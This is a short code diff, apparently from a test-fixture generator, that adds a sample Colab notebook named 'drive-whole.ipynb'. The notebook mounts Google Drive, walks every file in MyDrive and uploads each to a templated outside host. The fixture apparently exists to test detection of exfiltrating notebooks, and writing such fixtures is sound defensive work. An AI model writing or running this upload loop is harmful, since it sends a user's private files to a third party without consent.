@@ -128,6 +128,19 @@ def _programs() -> Iterator[tuple[str, Any]]:
         ),
     )
     yield (
+        "drive-whole.ipynb",
+        notebook(
+            code("from google.colab import drive", "drive.mount('/content/drive')"),
+            code(
+                "import os, requests",
+                "for root, _, names in os.walk('/content/drive/MyDrive'):",
+                "    for name in names:",
+                "        path = os.path.join(root, name)",
+                f"        requests.post('{HOST}/upload', files={{'f': open(path, 'rb')}})",
+            ),
+        ),
+    )
+    yield (
         "drive.twin.ipynb",
         notebook(
             code("from google.colab import drive", "drive.mount('/content/drive')"),
